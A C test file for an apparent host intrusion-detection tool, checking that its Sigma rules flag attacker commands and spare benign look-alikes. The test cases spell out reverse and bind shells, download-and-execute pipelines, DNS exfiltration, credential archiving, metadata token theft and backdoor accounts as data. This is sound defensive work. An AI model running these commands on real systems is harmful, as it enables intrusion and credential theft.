/*
 * Detection out of the box and its tuning: the shipped rules (IMMUNE's and
 * the vendored SigmaHQ ones) load, the new built-in rules match what they
 * are for and not their look-alikes, the severity policy turns low rules into
 * signals stored apart, the override file's disable/levels/exceptions, and
 * live suppressions kept in SQLite, expiring, counted per rule.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>

#include <sqlite3.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "detect.h"
#include "match.h"
#include "sigma.h"
#include "tuning.h"

static struct imm_event ev;

static void ev_exec(const char *exe, const char *cmd)
{
	memset(&ev, 0, sizeof(ev));
	ev.type = EBPF_EVENT_EXEC;
	ev.outcome = IMM_OUTCOME_SUCCESS;
	ev.pid = 4242;
	ev.ppid = 1;
	ev.executable = exe;
	ev.filename = exe;
	ev.name = strrchr(exe, '/') ? strrchr(exe, '/') + 1 : exe;
	ev.command_line = cmd;
	ev.cwd = "/home/alice";
	ev.parent_executable = "/usr/bin/bash";
	ev.parent_command_line = "-bash";
	ev.user_name = "alice";
	ev.exe_dev = 2049;
	ev.exe_ino = 77;
}

static void ev_write(const char *exe, const char *path)
{
	ev_exec(exe, exe);
	ev.type = EBPF_EVENT_OPEN;
	ev.filename = "";
	ev.path = ev.abs_path = path;
	ev.open_flags = 0101; /* O_WRONLY|O_CREAT */
	ev.ret = 3;
}

static char *logbuf;
static size_t loglen;

static void load_builtin(struct sigma_ruleset *rs)
{
	FILE *log = open_memstream(&logbuf, &loglen);
	sigma_ruleset_init(rs);
	assert_int_equal(sigma_load_builtin(rs, log, false), 0);
	fclose(log);
	free(logbuf);
	logbuf = NULL;
}

/* Does the built-in rule with this id match ev? */
static bool hits(struct matcher *m, const char *id)
{
	const struct sigma_rule *h[64];
	int n = matcher_match(m, &ev, h, 64);
	for (int i = 0; i < n && i < 64; i++)
		if (strcmp(h[i]->id, id) == 0)
			return true;
	return false;
}

#define RID(n) "6f1e0a01-3c2d-4b8e-9a01-0000000000" n

static void test_new_builtin_rules(void **s)
{
	(void)s;
	struct sigma_ruleset rs;
	load_builtin(&rs);
	struct matcher *m = matcher_new(&rs);
	assert_non_null(m);

	/* timestomping */
	ev_exec("/usr/bin/touch", "touch -r /bin/ls /usr/local/bin/implant");
	assert_true(hits(m, RID("20")));
	ev_exec("/usr/bin/touch", "touch -amt 201901010000 x");
	assert_true(hits(m, RID("20")));
	ev_exec("/usr/bin/touch", "touch --date=2019-01-01 x");
	assert_true(hits(m, RID("20")));
	ev_exec("/usr/bin/touch", "touch -c build/stamp");
	assert_false(hits(m, RID("20")));
	ev_exec("/usr/bin/touch", "touch -r a b");
	ev.parent_executable = "/usr/bin/make";
	assert_false(hits(m, RID("20")));

	/* hidden files and directories */
	ev_write("/usr/bin/cp", "/tmp/.q123/.sshd");
	assert_true(hits(m, RID("21")));
	ev_write("/usr/bin/bash", "/home/bob/.. /run");
	assert_true(hits(m, RID("21")));
	ev_write("/usr/bin/bash", "/home/bob/.../x");
	assert_true(hits(m, RID("21")));
	ev_write("/usr/bin/cp", "/dev/shm/.x123");
	assert_true(hits(m, RID("21")));
	ev_write("/usr/bin/nstat", "/tmp/.nstat.u0"); /* a tool's own state file */
	assert_false(hits(m, RID("21")));
	ev_write("/usr/bin/chromium", "/dev/shm/.org.chromium.Chromium.aBc123");
	assert_false(hits(m, RID("21")));
	ev_write("/usr/bin/Xorg", "/tmp/.X11-unix/X0");
	assert_false(hits(m, RID("21")));
	ev_write("/usr/bin/vim", "/tmp/.notes.txt.swp");
	assert_false(hits(m, RID("21")));
	ev_write("/usr/bin/bash", "/home/bob/.bash_history");
	assert_false(hits(m, RID("21")));
	ev_write("/usr/bin/gcc", "/tmp/ccA1b2.s");
	assert_false(hits(m, RID("21")));
	ev_exec("/usr/bin/mkdir", "mkdir -p /dev/shm/.cache");
	assert_true(hits(m, RID("22")));
	ev_exec("/usr/bin/mkdir", "mkdir -p /home/bob/.config/app");
	assert_false(hits(m, RID("22")));

	/* in-memory execution */
	ev_exec("/usr/bin/python3", "python3 -c import os; fd=os.memfd_create('x')");
	assert_true(hits(m, RID("23")));
	ev_exec("/usr/bin/perl", "perl -e my $fd = syscall(319, \"x\", 0);");
	assert_true(hits(m, RID("23")));
	ev_exec("/usr/bin/python3", "python3 -c print(319)");
	assert_false(hits(m, RID("23")));
	ev_exec("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "/lib64/ld-linux-x86-64.so.2 /dev/shm/tool");
	assert_true(hits(m, RID("24")));
	ev_exec("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "/lib64/ld-linux-x86-64.so.2 /bin/ls");
	ev.parent_command_line = "/bin/bash /usr/bin/ldd /bin/ls";
	assert_false(hits(m, RID("24")));

	/* LD_PRELOAD for a child */
	ev_exec("/usr/bin/env", "env LD_PRELOAD=/tmp/libhook.so /usr/bin/id");
	assert_true(hits(m, RID("25")));
	ev_exec("/usr/bin/sh", "sh -c export LD_PRELOAD=./x.so; ls");
	assert_true(hits(m, RID("25")));
	ev_exec("/usr/bin/env", "env LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libfaketime.so.1 date");
	assert_false(hits(m, RID("25")));

	/* archives of credentials */
	ev_exec("/usr/bin/tar", "tar czf /tmp/b.tgz /etc/passwd /etc/shadow");
	assert_true(hits(m, RID("26")));
	ev_exec("/usr/bin/zip", "zip -qr k.zip .ssh");
	assert_true(hits(m, RID("26")));
	ev_exec("/usr/bin/tar", "tar -cf c.tar .aws/credentials .kube/config");
	assert_true(hits(m, RID("26")));
	ev_exec("/usr/bin/tar", "tar czf src.tgz proj");
	assert_false(hits(m, RID("26")));
	ev_exec("/usr/bin/cat", "cat /etc/shadow");
	assert_false(hits(m, RID("26")));

	/* setuid bits */
	ev_exec("/usr/bin/chmod", "chmod u+s /tmp/.sh");
	assert_true(hits(m, RID("27")));
	ev_exec("/usr/bin/chmod", "chmod 4755 helper");
	assert_true(hits(m, RID("27")));
	ev_exec("/usr/bin/install", "install -m 2755 x /usr/local/bin/x");
	assert_true(hits(m, RID("27")));
	ev_exec("/usr/bin/chmod", "chmod 0755 deploy.sh");
	assert_false(hits(m, RID("27")));
	ev_exec("/usr/bin/chmod", "chmod +x deploy.sh");
	assert_false(hits(m, RID("27")));
	ev_exec("/usr/bin/chmod", "chmod 1777 /srv/drop");
	assert_false(hits(m, RID("27")));

	/* masquerading, accounts, firewall, credential hunting */
	ev_exec("/usr/bin/sleep", "[kworker/0:2-events] 10");
	assert_true(hits(m, RID("28")));
	ev_exec("/usr/bin/[", "[ -f x ]");
	assert_false(hits(m, RID("28")));
	ev_exec("/usr/sbin/useradd", "useradd -o -u 0 -g 0 sysupd");
	assert_true(hits(m, RID("29")));
	ev_exec("/usr/sbin/useradd", "useradd -m -u 1001 carol");
	assert_false(hits(m, RID("29")));
	ev_exec("/usr/sbin/iptables", "iptables -F");
	assert_true(hits(m, RID("30")));
	ev_exec("/usr/sbin/iptables", "iptables -A INPUT -p tcp --dport 22 -j ACCEPT");
	assert_false(hits(m, RID("30")));
	ev_exec("/usr/sbin/usermod", "usermod -aG sudo backdoor");
	assert_true(hits(m, RID("31")));
	ev_exec("/usr/sbin/usermod", "usermod -s /bin/zsh carol");
	assert_false(hits(m, RID("31")));
	ev_exec("/usr/bin/find", "find / -name id_rsa");
	assert_true(hits(m, RID("32")));
	ev_exec("/usr/bin/find", "find / -perm -4000 -type f");
	assert_true(hits(m, RID("32")));
	ev_exec("/usr/bin/find", "find . -name *.c");
	assert_false(hits(m, RID("32")));
	ev_exec("/usr/bin/systemctl", "systemctl stop falco");
	assert_true(hits(m, RID("34")));
	ev_exec("/usr/bin/pkill", "pkill -9 osqueryd");
	assert_true(hits(m, RID("34")));
	ev_exec("/usr/bin/systemctl", "systemctl restart nginx");
	assert_false(hits(m, RID("34")));
	ev_exec("/usr/bin/systemctl", "systemctl stop nginx");
	assert_false(hits(m, RID("34")));
	/* execution from /tmp, but by a build tool running its own output */
	ev_exec("/tmp/x", "/tmp/x");
	assert_true(hits(m, RID("01")));
	ev_exec("/tmp/tmp.Ab12/proj/test_calc", "./test_calc");
	ev.parent_executable = "/usr/bin/make";
	assert_false(hits(m, RID("01")));
	ev_exec("/tmp/go-build123/b001/exe/main", "main");
	ev.parent_executable = "/usr/local/go/bin/go";
	assert_false(hits(m, RID("01")));
	ev_exec("/usr/sbin/useradd", "useradd -M -N -r -s /bin/bash -c evil_account evil_user");
	assert_true(hits(m, RID("35")));
	ev_exec("/usr/sbin/useradd", "useradd --system --no-create-home _chrony");
	ev.parent_command_line = "/bin/sh /var/lib/dpkg/info/chrony.postinst configure";
	assert_false(hits(m, RID("35")));
	ev_exec("/usr/bin/bash", "sh /tmp/art.sh");
	assert_true(hits(m, RID("36")));
	ev_exec("/usr/bin/python3.11", "/usr/bin/python3 -u /dev/shm/.s.py");
	assert_true(hits(m, RID("36")));
	ev_exec("/usr/bin/bash", "bash /home/alice/deploy.sh /tmp/out");
	assert_false(hits(m, RID("36")));
	ev_exec("/usr/bin/bash", "sh -c ./configure --prefix=/tmp/x");
	assert_false(hits(m, RID("36")));
	ev_write("/usr/bin/cp", "/lib/x86_64-linux-gnu/security/pam_unix2.so");
	assert_true(hits(m, RID("33")));
	ev_write("/usr/bin/dpkg", "/lib/x86_64-linux-gnu/security/pam_unix.so");
	assert_false(hits(m, RID("33")));

	matcher_free(m);
	sigma_ruleset_free(&rs);
}

#define RID3(n) "6f1e0a01-3c2d-4b8e-9a01-000000000" n

static void ev_read(const char *exe, const char *path)
{
	ev_write(exe, path);
	ev.open_flags = 0; /* O_RDONLY */
}

/* One event and what one built-in rule must say about it. */
struct rule_case {
	enum { EXEC, READ, WRITE } kind;
	const char *exe, *arg; /* arg: the command line (EXEC) or the path opened */
	const char *cmd, *parent_exe, *parent_cmd; /* overrides, when not NULL */
	uint32_t loginuid;			   /* 0 (root's login session) unless set */
	const char *rule;
	bool hit;
};

#define NO_LOGIN ((uint32_t)-1)

/* The rules written for selftests/attack 57-99 (behaviours the first rules were not tuned to), and
 * the precision changes that came with them: each against what it is for and the administrator's
 * look-alike it must leave alone. */
static const struct rule_case unseen_cases[] = {
	/* boot, login and package-manager hooks */
	{ WRITE, "/usr/bin/bash", "/etc/update-motd.d/99-x", NULL, NULL, NULL, 0, RID3("101"), true },
	{ WRITE, "/usr/bin/bash", "/home/bob/.config/autostart/upd.desktop", NULL, NULL, NULL, 0, RID3("101"), true },
	{ WRITE, "/usr/bin/dpkg", "/etc/apt/apt.conf.d/20auto-upgrades", NULL, NULL, NULL, 0, RID3("101"), false },
	/* capabilities that are root */
	{ EXEC, "/usr/sbin/setcap", "setcap cap_setuid,cap_setgid+ep /home/bob/py", NULL, NULL, NULL, 0, RID3("102"), true },
	{ EXEC, "/usr/sbin/setcap", "setcap cap_net_bind_service=+ep /usr/local/bin/web", NULL, NULL, NULL, 0, RID3("102"), false },
	/* tokens */
	{ READ, "/usr/bin/cat", "/home/bob/.aws/credentials", NULL, NULL, NULL, 0, RID3("103"), true },
	{ READ, "/usr/local/bin/aws", "/home/bob/.aws/credentials", NULL, NULL, NULL, 0, RID3("103"), false },
	{ READ, "/usr/bin/python3.11", "/home/bob/.aws/credentials", "python3 - /home/bob", NULL, NULL, 0, RID3("103"), true },
	{ READ, "/usr/bin/python3.11", "/home/bob/.aws/credentials", "python3 /srv/app/report.py --bucket logs", NULL, NULL, 0, RID3("103"), false }, /* boto3 in an application */
	{ WRITE, "/usr/bin/bash", "/home/ci/.npmrc", NULL, NULL, NULL, 0, RID3("103"), false }, /* a CI job writing its token */
	{ READ, "/usr/bin/python3.11", "/home/bob/.config/gcloud/credentials.db", "/usr/bin/python3 /usr/lib/google-cloud-sdk/lib/gcloud.py auth list", NULL, NULL, 0, RID3("103"), false },
	/* account databases */
	{ WRITE, "/usr/bin/bash", "/etc/passwd", NULL, NULL, NULL, 0, RID3("104"), true },
	{ WRITE, "/usr/sbin/useradd", "/etc/passwd", NULL, NULL, NULL, 0, RID3("104"), false },
	/* login records */
	{ WRITE, "/usr/bin/python3.11", "/var/log/wtmp", NULL, NULL, NULL, 0, RID3("105"), true },
	{ WRITE, "/usr/sbin/sshd", "/var/log/wtmp", NULL, NULL, NULL, 0, RID3("105"), false },
	/* history */
	{ EXEC, "/usr/bin/sed", "sed -i /curl/d /home/bob/.bash_history", NULL, NULL, NULL, 0, RID3("106"), true },
	{ EXEC, "/usr/bin/bash", "bash -c export HISTFILE=/dev/null; id", NULL, NULL, NULL, 0, RID3("106"), true },
	{ EXEC, "/usr/bin/bash", "bash -c export HISTSIZE=10000 HISTCONTROL=ignorespace", NULL, NULL, NULL, 0, RID3("106"), false },
	/* argv[0] borrowed from a system program */
	{ EXEC, "/home/bob/.cache/sd", "/usr/sbin/sshd 0.2", NULL, NULL, NULL, 0, RID3("107"), true },
	{ EXEC, "/tmp/x", "cron -f", NULL, NULL, NULL, 0, RID3("107"), true },
	{ EXEC, "/home/dev/pg/bin/postgres", "postgres -D /home/dev/pg/data", NULL, NULL, NULL, 0, RID3("107"), false },
	{ EXEC, "/usr/sbin/sshd", "/usr/sbin/sshd -D", NULL, NULL, NULL, 0, RID3("107"), false },
	{ EXEC, "/home/bob/bin/tool", "/home/bob/bin/tool --help", NULL, NULL, NULL, 0, RID3("107"), false },
	/* container escape probes */
	{ EXEC, "/usr/bin/curl", "curl --unix-socket /var/run/docker.sock http://localhost/containers/json", NULL, NULL, NULL, 0, RID3("108"), true },
	{ EXEC, "/usr/bin/nsenter", "nsenter -t 1 -m -u -i -n sh", NULL, NULL, NULL, 0, RID3("108"), true },
	{ EXEC, "/usr/bin/docker", "docker -H unix:///var/run/docker.sock ps", NULL, NULL, NULL, 0, RID3("108"), false },
	{ EXEC, "/usr/bin/nsenter", "nsenter -t 4242 -n ss -tlnp", NULL, NULL, NULL, 0, RID3("108"), false },
	/* ptrace injection */
	{ EXEC, "/usr/bin/gdb", "gdb -q -p 812 -batch -ex call (int)dlopen(\"/tmp/x.so\", 2)", NULL, NULL, NULL, 0, RID3("109"), true },
	{ EXEC, "/usr/bin/gdb", "gdb -p 812 -batch -ex bt", NULL, NULL, NULL, 0, RID3("109"), false },
	/* code fetched and executed by an interpreter */
	{ EXEC, "/usr/bin/python3.11", "python3 -c import urllib.request;exec(urllib.request.urlopen('http://x/s').read())", NULL, NULL, NULL, 0, RID3("110"), true },
	{ EXEC, "/usr/bin/python3.11", "python3 -c import urllib.request; print(urllib.request.urlopen('http://x/').status)", NULL, NULL, NULL, 0, RID3("110"), false },
	/* bash <(curl ...) */
	{ EXEC, "/usr/bin/bash", "bash /dev/fd/63", NULL, NULL, NULL, 0, RID3("111"), true },
	{ EXEC, "/usr/bin/bash", "bash /home/bob/fd/63.sh", NULL, NULL, NULL, 0, RID3("111"), false },
	/* instance credentials */
	{ EXEC, "/usr/bin/curl", "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/role", NULL, NULL, NULL, 0, RID3("112"), true },
	{ EXEC, "/usr/bin/curl", "curl http://169.254.169.254/latest/meta-data/instance-id", NULL, NULL, NULL, 0, RID3("112"), false },
	/* /proc/PID hidden by a mount */
	{ EXEC, "/usr/bin/mount", "mount --bind /tmp/empty /proc/4242", NULL, NULL, NULL, 0, RID3("113"), true },
	{ EXEC, "/usr/bin/mount", "mount -t proc proc /proc", NULL, NULL, NULL, 0, RID3("113"), false },
	/* kernel hardening */
	{ EXEC, "/usr/sbin/sysctl", "sysctl -w kernel.yama.ptrace_scope=0", NULL, NULL, NULL, 0, RID3("114"), true },
	{ EXEC, "/usr/sbin/sysctl", "sysctl -w kernel.perf_event_paranoid=-1", NULL, NULL, NULL, 0, RID3("114"), false },
	{ EXEC, "/usr/sbin/sysctl", "sysctl -w kernel.yama.ptrace_scope=1", NULL, NULL, NULL, 0, RID3("114"), false },
	/* another process's memory */
	{ READ, "/usr/bin/python3.11", "/proc/812/mem", NULL, NULL, NULL, 0, RID3("115"), true },
	{ READ, "/usr/bin/gdb", "/proc/812/mem", NULL, NULL, NULL, 0, RID3("115"), false },
	{ READ, "/usr/bin/python3.11", "/dev/mem", NULL, NULL, NULL, 0, RID3("115"), false },
	/* a shell with no script started by an interpreter or a network tool */
	{ EXEC, "/usr/bin/dash", "/bin/sh -i", NULL, "/usr/bin/python3.11", NULL, 0, RID3("116"), true },
	{ EXEC, "/usr/bin/dash", "sh", NULL, "/usr/bin/socat", NULL, 0, RID3("116"), true },
	{ EXEC, "/usr/bin/bash", "/bin/bash", NULL, "/home/dev/.vscode-server/bin/abc/node", "/home/dev/.vscode-server/bin/abc/node --type=ptyHost", 0, RID3("116"), false },
	{ EXEC, "/usr/bin/dash", "/bin/sh -c ls -l", NULL, "/usr/bin/python3.11", NULL, 0, RID3("116"), false },
	{ EXEC, "/usr/bin/bash", "bash /home/bob/build.sh", NULL, "/usr/bin/python3.11", NULL, 0, RID3("116"), false },
	/* initdb's locale listing is not a web shell */
	{ EXEC, "/usr/bin/dash", "sh -c locale -a", NULL, "/usr/lib/postgresql/15/bin/postgres", NULL, 0, RID("03"), false },
	{ EXEC, "/usr/bin/dash", "sh -c id", NULL, "/usr/lib/postgresql/15/bin/postgres", NULL, 0, RID("03"), true },
	/* reverse shells through pipes and socat system: */
	{ EXEC, "/usr/bin/dash", "sh -c nc 10.0.0.1 4444 </tmp/f | /bin/sh >/tmp/f 2>&1", NULL, NULL, NULL, 0, RID("06"), true },
	{ EXEC, "/usr/bin/dash", "sh -c /bin/sh -i <s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:443 >s", NULL, NULL, NULL, 0, RID("06"), true },
	{ EXEC, "/usr/bin/socat", "socat tcp-connect:10.0.0.1:4444 system:sh,pty,stderr", NULL, NULL, NULL, 0, RID("06"), true },
	{ EXEC, "/usr/bin/dash", "sh -c nc -z 10.0.0.1 22 | tee log", NULL, NULL, NULL, 0, RID("06"), false },
	/* bind shells and gawk's network files */
	{ EXEC, "/usr/bin/python3.11", "python3 -c import socket,os,pty;s=socket.socket();s.bind(('0.0.0.0',4444));s.listen(1);c,a=s.accept();os.dup2(c.fileno(),0);pty.spawn('/bin/sh')", NULL, NULL, NULL, 0, RID("06"), true },
	{ EXEC, "/usr/bin/gawk", "awk BEGIN { s = \"/inet/tcp/0/10.0.0.1/4444\" }", NULL, NULL, NULL, 0, RID("06"), true },
	{ EXEC, "/usr/bin/python3.11", "python3 -c import socket; print(socket.gethostname())", NULL, NULL, NULL, 0, RID("06"), false },
	/* data in DNS names and ping patterns */
	{ EXEC, "/usr/bin/dig", "dig +short cm9vdDp4OjA6MDpyb290Oi9yb290Oi9iaW4vYmFzaApkYWVt.x1.exfil.example.com TXT", NULL, NULL, NULL, 0, RID3("117"), true },
	{ EXEC, "/usr/bin/dig", "dig +short www.debian.org AAAA", NULL, NULL, NULL, 0, RID3("117"), false },
	{ EXEC, "/usr/bin/ping", "ping -c 1 -p 726f6f743a783a30 10.0.0.1", NULL, NULL, NULL, 0, RID3("117"), true },
	{ EXEC, "/usr/bin/ping", "ping -c 3 10.0.0.1", NULL, NULL, NULL, 0, RID3("117"), false },
	/* tunnels */
	{ EXEC, "/usr/bin/ssh", "ssh -N -f -R 9001:127.0.0.1:22 tunnel@203.0.113.9", NULL, NULL, NULL, 0, RID3("118"), true },
	{ EXEC, "/usr/bin/ssh", "ssh -L 5432:db.internal:5432 admin@bastion", NULL, NULL, NULL, 0, RID3("118"), false },
	{ EXEC, "/usr/bin/ssh", "ssh -D 1080 admin@bastion", NULL, NULL, NULL, 0, RID3("118"), false },
	{ EXEC, "/home/bob/chisel", "chisel client 203.0.113.9:8080 R:socks", NULL, NULL, NULL, 0, RID3("118"), true },
	/* downloads piped into interpreters */
	{ EXEC, "/usr/bin/dash", "sh -c curl -fsSL http://x/p.py | python3", NULL, NULL, NULL, 0, RID3("119"), true },
	{ EXEC, "/usr/bin/dash", "sh -c curl -s http://x/data.json | python3 -m json.tool", NULL, NULL, NULL, 0, RID3("119"), false },
	/* a container given the host's root */
	{ EXEC, "/usr/bin/docker", "docker run --rm -it -v /:/host alpine chroot /host sh", NULL, NULL, NULL, 0, RID3("108"), true },
	{ EXEC, "/usr/bin/docker", "docker run --rm -v /srv/data:/data alpine ls /data", NULL, NULL, NULL, 0, RID3("108"), false },
	/* ~/.ssh/rc */
	{ WRITE, "/usr/bin/bash", "/home/bob/.ssh/rc", NULL, NULL, NULL, 0, RID3("101"), true },
	/* a backup of a whole tree reads shadow and keys among everything else; naming them is collection */
	{ READ, "/usr/bin/tar", "/etc/shadow", "tar -czf /srv/backup/etc.tgz /etc", NULL, NULL, 0, RID("07"), false },
	{ READ, "/usr/bin/tar", "/etc/shadow", "tar -czf /tmp/x.tgz /etc/passwd /etc/shadow", NULL, NULL, 0, RID("07"), true },
	{ READ, "/usr/bin/rsync", "/home/bob/.ssh/id_ed25519", "rsync -a /home/ /srv/backup/home/", NULL, NULL, 0, RID("08"), false },
	/* logs: housekeeping in a login session, evidence otherwise */
	{ EXEC, "/usr/bin/truncate", "truncate -s 0 /var/log/app/app.log", NULL, NULL, NULL, 1000, RID("17"), false },
	{ EXEC, "/usr/bin/truncate", "truncate -s 0 /var/log/auth.log", NULL, NULL, NULL, 1000, RID("17"), true },
	{ EXEC, "/usr/bin/truncate", "truncate -s 0 /var/log/app/app.log", NULL, NULL, NULL, NO_LOGIN, RID("17"), true },
	{ EXEC, "/usr/bin/journalctl", "journalctl --vacuum-time=2d", NULL, NULL, NULL, 0, RID("17"), false },
	{ EXEC, "/usr/bin/journalctl", "journalctl --vacuum-time=1s", NULL, NULL, NULL, 0, RID("17"), true },
	/* certificate housekeeping in a login session */
	{ EXEC, "/usr/bin/find", "find /etc -name *.pem -mtime -30", NULL, NULL, NULL, 1000, RID("32"), false },
	{ EXEC, "/usr/bin/find", "find / -name id_rsa", NULL, NULL, NULL, 1000, RID("32"), true },
	/* sshd, logging and loader configuration: outside a login session */
	{ WRITE, "/usr/bin/bash", "/etc/ssh/sshd_config.d/00-keys.conf", NULL, NULL, NULL, NO_LOGIN, RID3("120"), true },
	{ WRITE, "/usr/bin/vim.basic", "/etc/ssh/sshd_config", NULL, NULL, NULL, 1000, RID3("120"), false },
	{ WRITE, "/usr/bin/bash", "/etc/ld.so.conf.d/00-local.conf", NULL, NULL, NULL, NO_LOGIN, RID3("120"), true },
	/* a system tool's name earlier in PATH */
	{ WRITE, "/usr/bin/cp", "/usr/local/bin/ps", NULL, NULL, NULL, 0, RID3("121"), true },
	{ WRITE, "/usr/bin/cp", "/usr/local/bin/mytool", NULL, NULL, NULL, 0, RID3("121"), false },
	{ WRITE, "/usr/bin/cp", "/usr/bin/ps", NULL, NULL, NULL, 0, RID3("121"), false },
	/* decoded payloads evaluated */
	{ EXEC, "/usr/bin/bash", "bash -c eval \"$(echo Y2F0 | base64 -d)\"", NULL, NULL, NULL, 0, RID3("122"), true },
	{ EXEC, "/usr/bin/bash", "bash -c echo c2VjcmV0 | base64 -d > /tmp/token", NULL, NULL, NULL, 0, RID3("122"), false },
	/* histories searched for passwords */
	{ EXEC, "/usr/bin/grep", "grep -iE pass|-p[^ ] /home/alice/.bash_history /home/bob/.bash_history", NULL, NULL, NULL, 0, RID3("123"), true },
	{ EXEC, "/usr/bin/grep", "grep ssh /home/alice/.bash_history", NULL, NULL, NULL, 0, RID3("123"), false },
	/* relays */
	{ EXEC, "/usr/bin/socat", "socat TCP-LISTEN:8443,fork TCP:10.0.0.5:22", NULL, NULL, NULL, 0, RID3("118"), true },
	{ EXEC, "/usr/bin/socat", "socat - UNIX-CONNECT:/run/app.sock", NULL, NULL, NULL, 0, RID3("118"), false },
	/* accounts: an administrator's login session may create ordinary accounts; backdoor shapes and
	 * anything outside a login session alert */
	{ EXEC, "/usr/sbin/useradd", "useradd -m -s /bin/bash carol", NULL, NULL, NULL, 1000, RID("35"), false },
	{ EXEC, "/usr/sbin/useradd", "useradd -m -s /bin/bash carol", NULL, NULL, NULL, NO_LOGIN, RID("35"), true },
	{ EXEC, "/usr/sbin/useradd", "useradd -r -s /bin/bash svc", NULL, NULL, NULL, 1000, RID("35"), true },
	{ EXEC, "/usr/sbin/useradd", "useradd -m -d /root -s /bin/bash r2", NULL, NULL, NULL, 1000, RID("35"), true },
	/* cron: crontab(1) in a login session is how users edit their table */
	{ WRITE, "/usr/bin/crontab", "/var/spool/cron/crontabs/carol", NULL, NULL, NULL, 1000, RID("09"), false },
	{ WRITE, "/usr/bin/crontab", "/var/spool/cron/crontabs/carol", NULL, NULL, NULL, NO_LOGIN, RID("09"), true },
	{ WRITE, "/usr/bin/bash", "/var/spool/cron/crontabs/root", NULL, NULL, NULL, 1000, RID("09"), true },
};

static void test_unseen_behaviour_rules(void **s)
{
	(void)s;
	struct sigma_ruleset rs;
	load_builtin(&rs);
	struct matcher *m = matcher_new(&rs);
	assert_non_null(m);
	int failed = 0;
	for (size_t i = 0; i < sizeof(unseen_cases) / sizeof(unseen_cases[0]); i++) {
		const struct rule_case *c = &unseen_cases[i];
		if (c->kind == EXEC)
			ev_exec(c->exe, c->arg);
		else if (c->kind == READ)
			ev_read(c->exe, c->arg);
		else
			ev_write(c->exe, c->arg);
		if (c->cmd)
			ev.command_line = c->cmd;
		if (c->parent_exe)
			ev.parent_executable = c->parent_exe;
		if (c->parent_cmd)
			ev.parent_command_line = c->parent_cmd;
		ev.loginuid = c->loginuid;
		if (hits(m, c->rule) != c->hit) {
			print_error("case %zu: %s %s: rule %s should %s\n", i, c->exe, c->arg, c->rule,
				    c->hit ? "match" : "not match");
			failed++;
		}
	}
	assert_int_equal(failed, 0);
	matcher_free(m);
	sigma_ruleset_free(&rs);
}

static void test_levels_and_folders(void **s)
{
	(void)s;
	assert_int_equal(level_parse("High"), LEVEL_HIGH);
	assert_int_equal(level_parse("informational"), LEVEL_INFORMATIONAL);
	assert_int_equal(level_parse("severe"), -1);
	struct sigma_rule r = { .id = "abc", .level = "medium", .file = "sigma:rules-threat-hunting/linux/x.yml" };
	assert_int_equal(rule_level(&r), LEVEL_LOW);
	r.file = "sigma:rules/linux/process_creation/x.yml";
	assert_int_equal(rule_level(&r), LEVEL_MEDIUM);
	r.level = "";
	assert_int_equal(rule_level(&r), LEVEL_MEDIUM);
	assert_true(rule_selected_by(&r, "abc"));
	assert_true(rule_selected_by(&r, "rules/linux"));
	assert_true(rule_selected_by(&r, "linux/process_creation/"));
	assert_true(rule_selected_by(&r, "process_creation"));
	assert_true(rule_selected_by(&r, "sigma"));
	assert_false(rule_selected_by(&r, "process"));
	assert_false(rule_selected_by(&r, "builtin"));
	assert_false(rule_selected_by(&r, ""));
}

static void test_shipped_rules_load(void **s)
{
	(void)s;
	struct sigma_ruleset rs;
	FILE *log = open_memstream(&logbuf, &loglen);
	sigma_ruleset_init(&rs);
	assert_int_equal(sigma_load_vendored(&rs, log, false), 0);
	fclose(log);
	/* the corpus's counts (docs/detection.md): 162 of its exec/open/connect rules load */
	assert_int_equal(rs.loaded, 162);
	assert_int_equal(rs.yaml_errors, 0);
	for (int i = 0; i < rs.n; i++) {
		assert_false(rs.rules[i]->builtin);
		assert_int_equal(strncmp(rs.rules[i]->file, "sigma:rules", 11), 0);
	}
	free(logbuf);
	logbuf = NULL;
	sigma_ruleset_free(&rs);
}

static const char override_text[] = "disable:\n"
				    "    - rules-threat-hunting\n"
				    "    - ''\n"
				    "levels:\n"
				    "    6f1e0a01-3c2d-4b8e-9a01-000000000020: low\n"
				    "    6f1e0a01-3c2d-4b8e-9a01-000000000027: severe\n"
				    "exceptions:\n"
				    "    - rule: 6f1e0a01-3c2d-4b8e-9a01-000000000026\n"
				    "      name: nightly key backup\n"
				    "      fields: [ParentImage, CommandLine|contains]\n"
				    "      values:\n"
				    "          - [/usr/local/bin/backup, .ssh]\n"
				    "    - rule: 6f1e0a01-3c2d-4b8e-9a01-000000000026\n"
				    "      fields: [CommandLine]\n"
				    "      values:\n"
				    "          - [a, b]\n"
				    "    - fields: [Image]\n"
				    "      values: [x]\n"
				    "    - rule: no-such-rule\n"
				    "      fields: [Image]\n"
				    "      values: [/bin/x]\n"
				    "    - rule: 6f1e0a01-3c2d-4b8e-9a01-000000000027\n"
				    "      fields: [TargetFilename]\n"
				    "      values: [/x]\n"
				    "wat: 1\n";

static void test_overrides_file(void **s)
{
	(void)s;
	struct overrides ov = { 0 };
	char err[256];
	FILE *log = open_memstream(&logbuf, &loglen);
	assert_int_equal(overrides_load_text(&ov, "local.yml", override_text, strlen(override_text), log, err, sizeof(err)),
			 0);
	assert_int_equal(ov.ndisable, 1);
	assert_string_equal(ov.disable[0], "rules-threat-hunting");
	assert_int_equal(ov.nlevels, 1);
	assert_int_equal(ov.nexc, 3);

	struct sigma_ruleset rs;
	sigma_ruleset_init(&rs);
	assert_int_equal(sigma_load_builtin(&rs, log, false), 0);
	overrides_apply_levels(&ov, &rs, log);
	struct tuning *t = tuning_new(&rs, LEVEL_MEDIUM, &ov, NULL, log, err, sizeof(err));
	assert_non_null(t);
	fclose(log);
	/* each bad entry said where and why, and the good ones stay */
	assert_non_null(strstr(logbuf, "local.yml:3: disable: a rule id or folder, skipped\n"));
	assert_non_null(strstr(logbuf, "local.yml:6: levels: 'severe' is not informational, low, medium, high or critical"));
	assert_non_null(strstr(logbuf, "local.yml:13: values[0] must have 1 value, one per field, skipped\n"));
	assert_non_null(strstr(logbuf, "local.yml:17: an exception needs \"rule\""));
	assert_non_null(strstr(logbuf, "local.yml:19: exception for rule no-such-rule, which is not loaded, skipped\n"));
